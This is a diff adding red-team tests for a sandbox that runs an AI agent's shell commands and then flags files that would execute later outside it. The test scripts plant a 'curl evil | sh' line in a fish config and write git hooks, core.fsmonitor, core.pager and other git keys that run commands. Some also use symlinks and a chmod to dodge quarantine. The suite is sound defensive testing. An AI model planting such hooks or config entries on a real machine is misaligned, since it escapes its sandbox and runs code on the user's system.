@@ -143,6 +143,62 @@ describe.skipIf(!HAVE_BWRAP)("files that run later, outside the sandbox", () => 
     expect(readFileSync(join(repo, ".git", "commondir"), "utf8").trim()).toBe(evil);
   }, 60_000);
 
+  test("making one item impossible to move (chmod 555 on its directory) does not stop the rest of the check (red team, round 2, HIGH)", async () => {
+    const script = [
+      'mkdir -p "$HOME/.config/fish" && echo "curl evil | sh" > "$HOME/.config/fish/config.fish" && chmod 555 "$HOME/.config/fish"',
+      'mv .git .git-old && git init -q && printf "#!/bin/sh\\ntouch /tmp/pwned\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
+      'git config core.fsmonitor "touch /tmp/pwned; false" && echo rc=$?',
+    ].join(" && ");
+    const r = await runInRepo([], script);
+    expect(r.stdout, r.stderr).toContain("rc=0");
+    const fish = join(userHome, ".config", "fish");
+    expect(existsSync(join(fish, "config.fish"))).toBe(false);
+    expect(quarantined(fish, "config.fish").length).toBe(1);
+    expect(existsSync(join(repo, ".git", "hooks", "pre-commit"))).toBe(false);
+    expect(r.stderr).toContain(`the git directory ${join(repo, ".git")} was replaced`);
+    expect(r.stderr).toMatch(/sets core\.fsmonitor/);
+    expect(r.stderr).not.toContain("did not finish");
+  }, 60_000);
+
+  test("keys in ~/.gitconfig that run a program the first list missed (gpg.ssh.defaultKeyCommand, init.templateDir, sendemail.sendmailCmd, imap.tunnel) are named", async () => {
+    const keys = ["gpg.ssh.defaultKeyCommand", "init.templateDir", "sendemail.sendmailCmd", "imap.tunnel"];
+    const script = `${keys.map((key) => `git config --global ${key} "touch /tmp/pwned"`).join(" && ")} && echo rc=$?`;
+    const r = await runInRepo([], script);
+    expect(r.stdout, r.stderr).toContain("rc=0");
+    for (const key of keys) expect(r.stderr.toLowerCase()).toContain(`sets ${key.toLowerCase()}, which git runs or follows`);
+  }, 60_000);
+
+  test("a hook that is a dangling link, or resolves only from the worktree's top (/proc/self/cwd/…), is moved aside; a hook that went is named", async () => {
+    // The user's own hooks directory in the worktree (core.hooksPath), with a hook of theirs.
+    expect(Bun.spawnSync(["git", "-c", "safe.directory=*", "config", "core.hooksPath", ".githooks"], { cwd: repo }).exitCode).toBe(0);
+    mkdirSync(join(repo, ".githooks"));
+    writeFileSync(join(repo, ".githooks", "pre-push"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
+    giveToAgent(repo);
+    const script = [
+      "mkdir .x && printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .x/p.sh && chmod +x .x/p.sh",
+      "ln -s /proc/self/cwd/.x/p.sh .githooks/pre-commit",
+      "ln -s /tmp/not-there-yet/p.sh .githooks/post-merge",
+      "rm .githooks/pre-push && echo rc=$?",
+    ].join(" && ");
+    const r = await runInRepo([], script);
+    expect(r.stdout, r.stderr).toContain("rc=0");
+    for (const hook of ["pre-commit", "post-merge"]) {
+      expect(readdirSync(join(repo, ".githooks")), r.stderr).not.toContain(hook);
+      expect(existsSync(join(repo, ".githooks", hook)) || readdirSync(join(repo, ".githooks")).includes(hook)).toBe(false);
+      expect(quarantined(join(repo, ".githooks"), hook).length, hook).toBe(1);
+    }
+    expect(r.stderr).toContain(`the git hook ${join(repo, ".githooks", "pre-push")} was removed or renamed`);
+  }, 60_000);
+
+  test("a key whose value the terminal cannot show as it is gets the line to delete, not a command that would not remove it", async () => {
+    const config = join(userHome, ".gitconfig");
+    writeFileSync(config, "[core]\n\tpager = less\n");
+    giveToAgent(config);
+    const r = await runInRepo([], `printf '[core]\\n\\tpager = "sh\\t-c touch"\\n' >> "$HOME/.gitconfig" && echo rc=$?`);
+    expect(r.stdout, r.stderr).toContain("rc=0");
+    expect(r.stderr).toContain(`${config}:4 sets core.pager, which git runs or follows, and was not there before the sandboxed run: delete line 4 of that file yourself`);
+  }, 60_000);
+
   test("an agent's ordinary git work still runs inside: add, commit, checkout -b, stash", async () => {
     const script = "echo a > a.txt && git add a.txt && git commit -qm second && git checkout -qb feature && echo b >> a.txt && git stash -q && git stash list | wc -l && git log --oneline | wc -l";
     const r = await runInRepo([], script);
